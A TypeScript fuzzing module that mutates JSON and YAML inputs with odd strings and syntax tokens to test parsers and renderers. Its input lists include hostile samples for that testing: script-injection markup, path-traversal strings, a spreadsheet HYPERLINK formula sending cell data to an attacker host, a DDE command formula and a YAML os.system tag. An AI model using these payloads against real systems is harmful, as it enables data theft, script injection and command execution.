/**
 * Mutations for the fuzzer: on parsed values (replace, delete, add, duplicate, swap nodes) and on text (insert syntax
 * and control characters, cut, duplicate and re-indent lines, truncate). The odd values are ones that have broken
 * parsers, escapers and renderers elsewhere: lone surrogates, carriage returns, NUL, byte-order marks, markup, huge
 * and special numbers, prototype keys, long strings, formula-like cells, right-to-left and wide text, emoji.
 */
import { dump } from 'js-yaml';
import type { Random } from './random.js';

export const ODD_STRINGS: readonly string[] = [
  '',
  ' ',
  'x\r# Forged heading',
  'a\r\nb',
  '| forged | cells |',
  'line\u2028separator',
  '\u0000',
  '\ud800',
  'tail\udfff',
  '\ufeffbom',
  '\u202eevil',
  'é😀漢',
  '\x1b[31mred\x1b[0m',
  '<script>alert(1)</script>',
  '</style><img src=x onerror=alert(1)>',
  '$'.concat('{HOME}'),
  '%s%n%x',
  '../../etc/passwd',
  '/dev/zero',
  'C:\\Windows\\system32',
  'file:///etc/passwd',
  'javascript:alert(1)',
  'https://example.com/a b?c#d',
  '__proto__',
  'constructor',
  '-1',
  '1e309',
  'NaN',
  'null',
  '*',
  '`code`',
  '[link](http://x)',
  '\\',
  '"',
  "'",
  '\t',
  'a'.repeat(3000),
  '2026-13-45',
  '9999-12-31',
  'password123',
  // formula-like: a spreadsheet (XLSX, CSV) must show these as text
  '=HYPERLINK("http://attacker.invalid/?"&A1,"x")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C calc'!A0",
  'x;=1+1',
  // right-to-left marks and text, wide scripts, emoji sequences, C0 and C1 controls: for the PDF's fonts and layout
  '\u200fשלום\u200e abc',
  'مرحبا بالعالم',
  '東京都の監視カメラ 한국어',
  '👩‍👩‍👧‍👦🏳️‍🌈🇪🇺',
  '\u0007\u0008\u000b\u000c\u007f\u0085\u009b',
  // the longest id a model takes, and free text at its 20 000-character limit: one word, and many
  `i${'d:'.repeat(63)}x`,
  'w'.repeat(20_000),
  'word '.repeat(4_000),
];

const ODD_SCALARS: readonly unknown[] = [
  null,
  true,
  false,
  0,
  -1,
  1,
  0.5,
  -0,
  2 ** 31,
  2 ** 53,
  -(2 ** 63),
  1e308,
  5e-324,
  [],
  {},
];

/** A random odd value: a string, a scalar, or a small structure of them. */
export function oddValue(rng: Random, depth = 0): unknown {
  const kind = rng.int(depth > 2 ? 4 : 20);
  if (kind < 2) return rng.pick(ODD_SCALARS);
  if (kind < 10) return rng.pick(ODD_STRINGS);
  if (kind < 14) return Array.from({ length: rng.int(4) }, () => oddValue(rng, depth + 1));
  if (kind < 19) return Object.fromEntries([[rng.pick(ODD_KEYS), oddValue(rng, depth + 1)]]);
  return deepList(rng.int(300));
}

const ODD_KEYS = ['id', 'name', 'kind', 'status', 'x', 'evidence', 'controls', 'format', 'targets', 'components'];

function deepList(depth: number): unknown {
  let value: unknown = 'leaf';
  for (let i = 0; i < depth; i++) value = [value];
  return value;
}

type Container = Record<string, unknown> | unknown[];

/** Every [container, key] pair of a value, at most `limit` of them (a large model has thousands). */
function slots(root: unknown, rng: Random, limit = 4000): [Container, string | number][] {
  const out: [Container, string | number][] = [];
  const stack: unknown[] = [root];
  while (stack.length > 0 && out.length < limit) {
    const node = stack.splice(rng.int(stack.length), 1)[0];
    if (Array.isArray(node)) {
      node.forEach((item, i) => {
        out.push([node, i]);
        stack.push(item);
      });
    } else if (node !== null && typeof node === 'object') {
      for (const [key, item] of Object.entries(node)) {
        out.push([node as Record<string, unknown>, key]);
        stack.push(item);
      }
    }
  }
  return out;
}

/** A copy of `value` with `rounds` structural edits. */
export function mutateValue(rng: Random, value: unknown, rounds: number): unknown {
  const root = structuredClone(value);
  for (let r = 0; r < rounds; r++) {
    const all = slots(root, rng);
    if (all.length === 0) return oddValue(rng);
    const [container, key] = rng.pick(all);
    const get = () => (container as Record<string | number, unknown>)[key];
    const set = (v: unknown) => {
      (container as Record<string | number, unknown>)[key] = v;
    };
    switch (rng.int(14)) {
      case 9:
      case 10:
      case 11:
      case 12:
      case 13:
        // the same type with an odd value: what gets past the schema into the pipeline and the renderers
        set(sameTypeOdd(rng, get()));
        break;
      case 0:
      case 1:
        set(oddValue(rng));
        break;
      case 2:
        if (Array.isArray(container)) container.splice(key as number, 1);
        else delete container[key as string];
        break;
      case 3:
        if (Array.isArray(container)) container.push(structuredClone(get()));
        else container[rng.pick([...ODD_KEYS, ...ODD_STRINGS.slice(0, 8)])] = oddValue(rng);
        break;
      case 4: {
        // a value from elsewhere in the document: ids collide, references point at the wrong kind of thing
        const [other, otherKey] = rng.pick(all);
        set(structuredClone((other as Record<string | number, unknown>)[otherKey]));
        break;
      }
      case 5: {
        const v = get();
        if (typeof v === 'string')
          set(v.length > 1 && rng.chance(0.5) ? v.slice(0, -1) : `${v}${rng.pick(ODD_STRINGS)}`);
        else set(rng.chance(0.5) ? [v] : String(v));
        break;
      }
      case 6: {
        const v = get();
        if (Array.isArray(v))
          set(Array.from({ length: 1 + rng.int(60) }, (_, i) => structuredClone(v[i % Math.max(1, v.length)])));
        else set(null);
        break;
      }
      case 7: {
        const v = get();
        if (typeof v === 'number') set(rng.pick([v + 1, -v, v * 1000, 0, Math.floor(v / 2)]));
        else if (typeof v === 'boolean') set(!v);
        else set(rng.pick(ODD_SCALARS));
        break;
      }
      default:
        if (!Array.isArray(container)) {
          // rename a key: a typo the diagnostics should catch and suggest for
          const v = get();
          delete container[key as string];
          container[`${String(key).slice(0, -1)}${rng.pick(['', 'x', 's', '_'])}`] = v;
        }
    }
  }
  return root;
}

function sameTypeOdd(rng: Random, value: unknown): unknown {
  if (typeof value === 'string') {
    const odd = rng.pick(ODD_STRINGS);
    return rng.chance(0.5) ? odd : `${value}${odd}`;
  }
  if (typeof value === 'number') return rng.pick([0, 1, -1, value * 10, 2 ** 31, 1e21, 0.1]);
  if (typeof value === 'boolean') return !value;
  return value;
}

/** Keys whose values are free text in every input: odd strings there pass the schema and reach the renderers. */
const FREE_TEXT = new Set([
  'name',
  'title',
  'description',
  'summary',
  'message',
  'justification',
  'reason',
  'owner',
  'location',
  'note',
  'ticket',
  'purposes',
  'details',
  'statement',
  'guidance',
  'contact',
]);

/** A copy of `value` with `rounds` free-text values (and the items of free-text lists) replaced by odd strings. */
export function mutateFreeText(rng: Random, value: unknown, rounds: number): unknown {
  const root = structuredClone(value);
  const all = slots(root, rng).filter(([container, key]) => {
    const v = (container as Record<string | number, unknown>)[key];
    return (typeof v === 'string' || Array.isArray(v)) && typeof key === 'string' && FREE_TEXT.has(key);
  });
  for (let r = 0; r < rounds && all.length > 0; r++) {
    const [container, key] = rng.pick(all);
    const record = container as Record<string, unknown>;
    const v = record[key as string];
    const odd = () => (rng.chance(0.5) ? rng.pick(ODD_STRINGS) : `${rng.pick(ODD_STRINGS)} ${rng.pick(ODD_STRINGS)}`);
    record[key as string] = Array.isArray(v) ? [...v.filter(() => rng.chance(0.5)), odd()] : odd();
  }
  return root;
}

const TOKENS: readonly string[] = [
  '{',
  '}',
  '[',
  ']',
  ':',
  ': ',
  ',',
  '- ',
  '&a ',
  '*a',
  '<<: *a\n',
  '!!binary ',
  '!!python/object:os.system ',
  '!custom ',
  '---\n',
  '...\n',
  '# ',
  '|\n',
  '>-\n',
  '\t',
  '\r',
  '\r\n',
  '\n',
  '\u0000',
  '\ufeff',
  '"\\ud800"',
  '"\\udc00x"',
  '"\\u0000"',
  "'",
  '"',
  '%YAML 1.2\n',
  '? ',
  '\\',
  '\u2028',
  '😀',
  ' null',
  ' ~',
  ' .nan',
  ' -.inf',
  ' 0x7fffffffffffffff',
  ' 1e400',
  '__proto__: 1\n',
  '\n  - ',
  '\n    ',
];

/** `text` with `rounds` edits. */
export function mutateText(rng: Random, text: string, rounds: number): string {
  let t = text;
  for (let r = 0; r < rounds; r++) {
    const at = rng.int(t.length + 1);
    switch (rng.int(8)) {
      case 0:
      case 1:
        t = t.slice(0, at) + rng.pick(TOKENS) + t.slice(at);
        break;
      case 2:
        t = t.slice(0, at) + t.slice(at + 1 + rng.int(40));
        break;
      case 3: {
        const lines = t.split('\n');
        const i = rng.int(lines.length);
        lines.splice(i, 0, lines[rng.int(lines.length)] ?? '');
        t = lines.join('\n');
        break;
      }
      case 4: {
        const lines = t.split('\n');
        const i = rng.int(lines.length);
        lines[i] = rng.chance(0.5) ? ` ${lines[i]}` : lines[i]!.replace(/^ {1,2}/, '');
        t = lines.join('\n');
        break;
      }
      case 5:
        t = t.slice(0, at);
        break;
      case 6:
        t = t.slice(0, at) + rng.pick(ODD_STRINGS) + t.slice(at);
        break;
      default:
        t = t.replace(/\d/, () => String(rng.int(10)));
    }
  }
  return t;
}

/** A value as a file: JSON (compact or indented) or YAML. */
export function serialise(rng: Random, value: unknown): string {
  if (rng.chance(0.35)) {
    try {
      return dump(value);
    } catch {
      // js-yaml refuses some values (e.g. undefined in arrays); JSON takes them
    }
  }
  return JSON.stringify(value, null, rng.chance(0.5) ? 2 : undefined) ?? 'null';
}
